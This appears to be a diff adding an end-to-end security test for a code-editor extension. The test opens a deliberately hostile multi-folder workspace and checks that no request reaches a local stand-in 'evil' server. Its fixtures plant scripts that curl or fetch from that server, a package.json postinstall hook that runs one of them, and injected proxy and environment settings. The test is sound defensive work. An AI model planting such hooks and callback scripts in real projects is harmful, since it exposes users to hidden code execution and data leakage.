@@ -1,0 +1,131 @@
+/**
+ * A workspace of many folders that is hostile in its file, in each folder's settings, in variables and in programs that lie about: whatever the window
+ * does, nothing reaches a server that nobody signed in to. That server is shown to notice.
+ */
+import assert from "node:assert/strict";
+import { mkdir, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { visit, type Visit } from "../../sandbox/visit.ts";
+import { capture, type Capture } from "../../secure/capture.ts";
+import { hostileSettings, settingsFiles, spellings, variables } from "../../secure/hostileCases.ts";
+import { activeTab, answer, asks, dialog, notifications, openView, openWorkbench, runCommand, screenshot, signIn, squiggles, treeItem, type Workbench } from "../workbench.ts";
+
+/** Of this machine, but no name that goes past a proxy; nobody listens there. */
+const behindProxy = "https://127.0.0.2:9";
+
+describe("a hostile workspace of many folders", function () {
+  this.bail(true);
+  let service: Visit;
+  let evil: Capture;
+  let workbench: Workbench;
+
+  before(async () => {
+    service = await visit();
+    evil = await capture();
+    const own = new URL(service.ready.formsApiUrl).host;
+    const fill = (text: string): string => text.replaceAll("$evilPort", String(evil.port)).replaceAll("$evil", `127.0.0.1:${evil.port}`).replaceAll("$own", own).replaceAll("acme", "strandby");
+    const environment = Object.fromEntries(variables.flatMap(([, given]) => Object.entries(given)).map(([name, value]) => [name, fill(value)]));
+    const write = (value: unknown): string => fill(JSON.stringify(value));
+    const program = fill("#!/bin/sh\ncurl -s http://$evil/program\n");
+    const script = fill("require('node:http').get('http://$evil/script');");
+    const names = hostileSettings.map((_, index) => `case-${index}`);
+    const folders = hostileSettings.flatMap(([, settings], index) => {
+      const [, spell] = spellings[index % spellings.length] ?? assert.fail();
+      const [, content] = settingsFiles[index % settingsFiles.length] ?? assert.fail();
+      return Object.entries({
+        ".vscode/settings.json": write(spell(settings)), "smartform.json": fill(content), "letter.sft": "Dear [[ customer,\n", "evil": program, "node": program, "smartform": program, "evil.js": script,
+        ".env": Object.entries(environment).map((pair) => pair.join("=")).join("\n"), "package.json": write({ main: "evil.js", scripts: { postinstall: "./evil" } }),
+        "sandbox.json": write({ ready: true, authUrl: "http://$evil", formsApiUrl: "http://$evil" }),
+      }).map(([name, text]) => [`case-${index}/${name}`, text] as const);
+    });
+    const smartform = service.ready.demo.smartforms.singleStep;
+    workbench = await openWorkbench({
+      workspaceFile: "hostile.code-workspace",
+      files: {
+        ...Object.fromEntries(folders),
+        "case-0/person.form.json": write({ dialogDefinitionId: smartform, values: { name: "Bo" } }),
+        "hostile.code-workspace": write({
+          folders: names.map((path) => ({ path })),
+          settings: { ...Object.fromEntries(hostileSettings.toReversed().flatMap(([, settings]) => Object.entries(settings))), "terminal.integrated.env.linux": environment },
+        }),
+      },
+    });
+  });
+
+  afterEach(async function () {
+    if (this.currentTest?.state === "failed") await screenshot(workbench, "hostile-workspace-failed");
+  });
+
+  after(async () => {
+    await workbench?.[Symbol.asyncDispose]();
+    await service?.close();
+    await evil?.[Symbol.asyncDispose]();
+  });
+
+  const assertUntouched = (): void => {
+    assert.deepEqual(evil.arrived, []);
+    assert.equal(evil.connections, 0);
+  };
+
+  /** A file of the first folder. */
+  async function openFromTree(name: string): Promise<void> {
+    await workbench.page.locator(`.explorer-folders-view [role="treeitem"][aria-label^="${name}"]`).first().dblclick();
+    await activeTab(workbench, name).waitFor();
+  }
+
+  /** Begins a connection to what only a proxy could reach, up to the word that nobody could. */
+  async function signInFar(): Promise<void> {
+    await runCommand(workbench, "Smartform: Sign In to a Service");
+    const answers = [
+      ["Name of the connection", "far"], ["Address of the token service", behindProxy], ["Address of the forms API", behindProxy], ["Address of the forms application", behindProxy], ["Client id", "client"], ["Client secret", "canary-secret"],
+    ] as const;
+    for (const [prompt, text] of answers) {
+      await asks(workbench, prompt);
+      await answer(workbench, text);
+    }
+    await dialog(workbench).getByText("Not signed in").waitFor();
+    await screenshot(workbench, "hostile-workspace-far");
+    await workbench.page.keyboard.press("Escape");
+    await dialog(workbench).waitFor({ state: "detached" });
+  }
+
+  it("is opened, and its files are checked, without a call", async () => {
+    await openFromTree("letter.sft");
+    await squiggles(workbench, "error").first().waitFor();
+    assertUntouched();
+  });
+
+  it("does not lead away what a signed-in person reads and makes", async () => {
+    await signIn(workbench, service, { name: "strandby", folder: "Claims" });
+    await openView(workbench, "Explorer");
+    await openFromTree("person.form.json");
+    await runCommand(workbench, "Smartform: Create Test Form");
+    await notifications(workbench).filter({ hasText: "A test form was made" }).first().waitFor();
+    await screenshot(workbench, "hostile-workspace");
+    const asked = (await service.control("GET", "/ledger")).at("items") as readonly { readonly operation: string | null }[];
+    assert.equal(asked.filter(({ operation }) => operation === "forms.create").length, 1);
+    assertUntouched();
+  });
+
+  it("brings no proxy to a sign-in", async () => {
+    await signInFar();
+    assertUntouched();
+  });
+
+  it("starts no program of its own for the sandbox", async () => {
+    await openView(workbench, "Smartform");
+    await runCommand(workbench, "Smartform: Use the Sandbox");
+    await workbench.page.locator(".statusbar").getByText("Smartform Sandbox").waitFor({ timeout: 60_000 });
+    await treeItem(workbench, "Claims").waitFor();
+    assertUntouched();
+  });
+
+  it("would be noticed: the same proxy in the user's own settings is asked", async () => {
+    await mkdir(join(workbench.data, "data", "User"), { recursive: true });
+    await writeFile(join(workbench.data, "data", "User", "settings.json"), JSON.stringify({ "http.proxy": evil.url }));
+    await workbench.page.reload();
+    await workbench.page.locator(".statusbar").getByText("Smartform Sandbox").waitFor({ timeout: 60_000 });
+    await signInFar();
+    assert.ok(evil.arrived.some(({ method, url }) => method === "CONNECT" && url === "127.0.0.2:9"));
+  });
+});
